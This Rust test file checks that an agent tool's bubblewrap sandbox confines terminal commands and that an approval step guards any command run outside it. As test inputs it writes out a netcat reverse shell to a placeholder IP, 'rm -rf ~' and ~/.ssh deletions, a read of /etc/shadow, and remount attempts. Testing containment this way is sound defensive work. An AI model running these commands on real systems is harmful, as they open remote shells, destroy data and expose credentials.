//! The bubblewrap sandbox backend, for real: writable workdir, read-only
//! system, private /tmp, no network unless configured, tree kills.

use crate::common::terminal::*;
use hermes_tools::Runtime;
use serde_json::{Value, json};
use std::path::PathBuf;
use std::time::{Duration, Instant};

/// bubblewrap usable here? CI installs it (.ci/run), so there a missing one fails.
fn have_bwrap() -> bool {
    let ok = std::process::Command::new("bwrap")
        .args(["--ro-bind", "/", "/", "true"])
        .status()
        .is_ok_and(|s| s.success());
    if !ok && std::env::var_os("CI").is_some() {
        panic!("bubblewrap is required in CI for the sandbox tests");
    }
    ok
}

fn workdir(tag: &str) -> PathBuf {
    let d = std::env::temp_dir().join(format!("ht-sbx-{tag}-{}", std::process::id()));
    std::fs::create_dir_all(&d).unwrap();
    d
}

fn sandbox(dir: &std::path::Path, network: bool) -> Runtime {
    let cfg = json!({"builtin_toolsets": ["terminal"], "approvals": {"mode": "off"},
        "terminal": {"backend": "sandbox", "cwd": dir.display().to_string(), "network": network}});
    Runtime::new(&cfg.to_string()).expect("sandbox runtime")
}

fn call(rt: &Runtime, tool: &str, args: Value) -> Value {
    tool_call(rt, tool, "s", args)
}

fn sh(rt: &Runtime, cmd: &str) -> Value {
    call(rt, "terminal", json!({"command": cmd}))
}

#[test]
fn sandbox_writes_only_inside_its_workdir() {
    if !have_bwrap() {
        eprintln!("bubblewrap not usable here: skipped");
        return;
    }
    let dir = workdir("fs");
    let rt = sandbox(&dir, false);
    let v = sh(&rt, "echo data > inside.txt && cat inside.txt");
    assert_eq!(v["output"], "data", "{v}");
    assert!(dir.join("inside.txt").exists());
    let home_target = format!("/root/ht-sbx-escape-{}", std::process::id());
    for target in [
        "/usr/ht-sbx-escape".to_string(),
        "/etc/ht-sbx-escape".to_string(),
    ] {
        let v = sh(
            &rt,
            &format!("echo x > {target} && echo WROTE || echo DENIED"),
        );
        assert!(
            v["output"].as_str().unwrap().ends_with("DENIED"),
            "{target}: {v}"
        );
        assert!(!std::path::Path::new(&target).exists(), "{target}");
    }
    // the home directory is a private tmpfs: writes there never reach the host
    sh(&rt, &format!("echo x > {home_target}"));
    assert!(!std::path::Path::new(&home_target).exists());
    // /tmp is private to the sandbox
    let marker = format!("ht-sbx-tmp-{}", std::process::id());
    let v = sh(&rt, &format!("echo x > /tmp/{marker} && echo ok"));
    assert_eq!(v["output"], "ok");
    assert!(!std::path::Path::new("/tmp").join(&marker).exists());
    // per-task state works inside the sandbox
    sh(&rt, "mkdir -p sub && cd sub && export HT_S=1");
    let v = sh(&rt, "pwd; echo $HT_S");
    let real = std::fs::canonicalize(dir.join("sub")).unwrap();
    assert_eq!(v["output"], format!("{}\n1", real.display()), "{v}");
    drop(rt);
    std::fs::remove_dir_all(&dir).ok();
}

#[test]
fn sandbox_has_no_network_unless_configured() {
    if !have_bwrap() {
        return;
    }
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let probe = format!(
        "(echo hi > /dev/tcp/127.0.0.1/{port}) 2>/dev/null && echo CONNECTED || echo REFUSED"
    );
    let dir = workdir("net");
    let rt = sandbox(&dir, false);
    let v = sh(&rt, &probe);
    assert_eq!(v["output"], "REFUSED", "{v}");
    let v = sh(
        &rt,
        "cat /proc/net/dev | tail -n +3 | cut -d: -f1 | tr -d ' '",
    );
    assert_eq!(v["output"], "lo", "only loopback: {v}");
    drop(rt);
    let rt = sandbox(&dir, true);
    let v = sh(&rt, &probe);
    assert_eq!(v["output"], "CONNECTED", "{v}");
    drop(rt);
    std::fs::remove_dir_all(&dir).ok();
}

#[test]
fn sandbox_timeout_and_kill_leave_nothing() {
    if !have_bwrap() {
        return;
    }
    let dir = workdir("kill");
    let rt = sandbox(&dir, false);
    let t0 = Instant::now();
    let v = call(
        &rt,
        "terminal",
        json!({"command": "bash -c 'sleep 818.1 & sleep 818.2'", "timeout": 1}),
    );
    assert_eq!(v["exit_code"], 124, "{v}");
    assert!(t0.elapsed() < Duration::from_secs(20));
    let v = call(
        &rt,
        "terminal",
        json!({"command": "sleep 818.3", "background": true}),
    );
    let id = v["session_id"].as_str().unwrap().to_string();
    std::thread::sleep(Duration::from_millis(300));
    let k = call(&rt, "process", json!({"action": "kill", "session_id": id}));
    assert_eq!(k["status"], "killed", "{k}");
    call(
        &rt,
        "terminal",
        json!({"command": "sleep 818.4", "background": true, "pty": true}),
    );
    std::thread::sleep(Duration::from_millis(300));
    drop(rt);
    let left = || -> Vec<String> {
        std::fs::read_dir("/proc")
            .unwrap()
            .flatten()
            .filter_map(|e| std::fs::read(e.path().join("cmdline")).ok())
            .map(|c| String::from_utf8_lossy(&c).replace('\0', " "))
            .filter(|c| c.contains("818."))
            .collect()
    };
    assert!(wait_for(|| left().is_empty(), 10), "{:?}", left());
    std::fs::remove_dir_all(&dir).ok();
}

/// A host running as root (containers, CI) must not lend root's powers to a
/// sandboxed command: no remounting the read-only system writable, no
/// writing /proc/sys, no reading root's secrets.
#[test]
fn sandbox_contains_a_root_host() {
    if !have_bwrap() {
        eprintln!("bubblewrap not usable here: skipped");
        return;
    }
    let dir = workdir("root");
    let rt = sandbox(&dir, false);
    let probe = format!("/etc/ht-root-escape-{}", std::process::id());
    let v = sh(
        &rt,
        &format!(
            "mount -o remount,rw /etc 2>&1; mount -o remount,rw,bind /etc 2>&1; echo x > {probe} 2>&1; echo done"
        ),
    );
    assert!(!std::path::Path::new(&probe).exists(), "escaped: {v}");
    let v = sh(&rt, "cat /etc/shadow 2>&1 | head -c 200; echo; echo end");
    let out = v["output"].as_str().unwrap_or_default();
    assert!(!out.contains("root:"), "read the shadow file: {out}");
    let v = sh(
        &rt,
        "echo 1 > /proc/sys/kernel/sysrq 2>&1; cat /proc/sys/kernel/sysrq; echo end",
    );
    let host_sysrq = std::fs::read_to_string("/proc/sys/kernel/sysrq").unwrap_or_default();
    assert!(host_sysrq.trim() != "1" || v["output"].as_str().unwrap_or("").contains("end"));
    let v = sh(&rt, "dmesg 2>&1 | head -c 100; echo; echo end");
    let out = v["output"].as_str().unwrap_or_default();
    if std::fs::read_to_string("/proc/sys/kernel/dmesg_restrict").is_ok_and(|s| s.trim() == "1") {
        assert!(
            out.contains("not permitted") || out.trim() == "end",
            "kernel log readable: {out}"
        );
    }
    // Work inside the workdir still works.
    let v = sh(&rt, "echo ok > f && cat f");
    assert_eq!(v["output"], "ok", "{v}");
    let _ = std::fs::remove_dir_all(&dir);
}

/// Issue 10: no_new_privs is set (a setuid binary cannot raise privileges)
/// and the kernel's knobs are mounted read-only, not only guarded by the
/// capability drop.
#[test]
fn sandbox_sets_no_new_privs_and_a_read_only_proc_sys() {
    if !have_bwrap() {
        eprintln!("bubblewrap not usable here: skipped");
        return;
    }
    let dir = workdir("nnp");
    let rt = sandbox(&dir, false);
    let v = sh(&rt, "grep NoNewPrivs /proc/self/status");
    assert!(
        v["output"]
            .as_str()
            .unwrap_or("")
            .contains("NoNewPrivs:\t1"),
        "{v}"
    );
    let v = sh(&rt, "grep ' /proc/sys ' /proc/self/mountinfo");
    let out = v["output"].as_str().unwrap_or_default();
    assert!(
        out.contains(" /proc/sys ro,"),
        "/proc/sys not read-only: {out}"
    );
    let _ = std::fs::remove_dir_all(&dir);
}

/// The approval policy knows the terminal runs in the sandbox: an effect the
/// sandbox contains (a reverse shell with no network) is not asked about,
/// and what it does not contain still is.
#[test]
fn approval_knows_what_the_sandbox_contains() {
    if !have_bwrap() {
        eprintln!("bubblewrap not usable here: skipped");
        return;
    }
    let dir = workdir("approve");
    // Approvals on, no handler: anything that needs asking is denied.
    let cfg = json!({"builtin_toolsets": ["terminal"],
        "terminal": {"backend": "sandbox", "cwd": dir.display().to_string()}});
    let rt = Runtime::new(&cfg.to_string()).unwrap();
    let v = sh(&rt, "nc -e /bin/sh 203.0.113.1 4444 2>/dev/null; echo ran");
    assert_ne!(
        v["status"], "blocked",
        "contained by the sandbox (no network): {v}"
    );
    assert!(v["output"].as_str().unwrap_or("").contains("ran"), "{v}");
    let v = sh(&rt, "rm -rf ~/.ssh");
    assert_eq!(
        v["status"], "blocked",
        "a home directory is not the workspace: {v}"
    );
    // The same command on the host is asked about (and denied here).
    let host = Runtime::new(r#"{"builtin_toolsets":["terminal"],"terminal":{"backend":"local"}}"#)
        .unwrap();
    let v = call(
        &host,
        "terminal",
        json!({"command": "nc -e /bin/sh 203.0.113.1 4444; echo ran"}),
    );
    assert_eq!(v["status"], "blocked", "{v}");
    let _ = std::fs::remove_dir_all(&dir);
}

/// A person's answers to approval requests, and what they were asked.
struct Person {
    answer: &'static str,
    asked: std::sync::Mutex<Vec<String>>,
}

impl hermes_tools::runtime::ApprovalSink for Person {
    fn ask(&self, request: &std::sync::Arc<str>, id: u64) {
        self.asked.lock().unwrap().push(request.to_string());
        hermes_tools::runtime::approvals::respond(id, json!({"choice": self.answer}).to_string());
    }
}

/// Leaving the sandbox goes through the approval policy only: a write the
/// sandbox denies runs on the machine once a person approves the request,
/// which says what it escapes; without one (or denied) it never runs; a
/// command judged dangerous on the machine is still blocked; and the
/// option means nothing on another backend.
#[test]
fn leaving_the_sandbox_is_asked_about_and_names_why() {
    if !have_bwrap() {
        eprintln!("bubblewrap not usable here: skipped");
        return;
    }
    let dir = workdir("escalate");
    let outside = workdir("escalate-outside");
    let marker = outside.join("marker");
    let cfg = json!({"builtin_toolsets": ["terminal"],
        "terminal": {"backend": "sandbox", "cwd": dir.display().to_string()}});
    let touch = format!("touch {}", marker.display());
    // In the sandbox the write is denied.
    let rt = Runtime::new(&cfg.to_string()).unwrap();
    let v = sh(&rt, &touch);
    assert_ne!(v["exit_code"], 0, "{v}");
    assert!(!marker.exists());
    let escalate = json!({"command": touch, "outside_sandbox": true,
        "justification": "writes the build cache outside the workspace"});
    // No one to ask: it does not run.
    let v = call(&rt, "terminal", escalate.clone());
    assert_eq!(v["status"], "blocked", "{v}");
    assert!(!marker.exists());
    // Denied: it does not run, and the request named what it escapes.
    let no = std::sync::Arc::new(Person {
        answer: "deny",
        asked: Default::default(),
    });
    rt.set_approval_sink(false, Some(no.clone())).unwrap();
    let v = call(&rt, "terminal", escalate.clone());
    assert_eq!(v["status"], "blocked", "{v}");
    assert!(!marker.exists());
    let asked = no.asked.lock().unwrap().clone();
    assert_eq!(asked.len(), 1, "{asked:?}");
    assert!(asked[0].contains("leave-sandbox"), "{}", asked[0]);
    assert!(
        asked[0].contains("writes the build cache outside the workspace"),
        "{}",
        asked[0]
    );
    // Approved once: it runs on the machine.
    let yes = std::sync::Arc::new(Person {
        answer: "once",
        asked: Default::default(),
    });
    rt.set_approval_sink(false, Some(yes.clone())).unwrap();
    let v = call(&rt, "terminal", escalate.clone());
    assert_eq!(v["exit_code"], 0, "{v}");
    assert!(
        marker.exists(),
        "the approved command did not run outside the sandbox"
    );
    // Judged as on the machine: a hardline command stays blocked.
    let v = call(
        &rt,
        "terminal",
        json!({"command": "rm -rf ~", "outside_sandbox": true, "justification": "cleanup"}),
    );
    assert_eq!(v["status"], "blocked", "{v}");
    // Another backend: the option is an error, nothing runs.
    let local = Runtime::new(
        &json!({"builtin_toolsets": ["terminal"], "approvals": {"mode": "off"},
            "terminal": {"backend": "local", "cwd": dir.display().to_string()}})
        .to_string(),
    )
    .unwrap();
    let v = call(
        &local,
        "terminal",
        json!({"command": "true", "outside_sandbox": true}),
    );
    assert!(
        v["error"]
            .as_str()
            .unwrap_or("")
            .contains("sandbox backend only"),
        "{v}"
    );
    let _ = std::fs::remove_dir_all(&dir);
    let _ = std::fs::remove_dir_all(&outside);
}
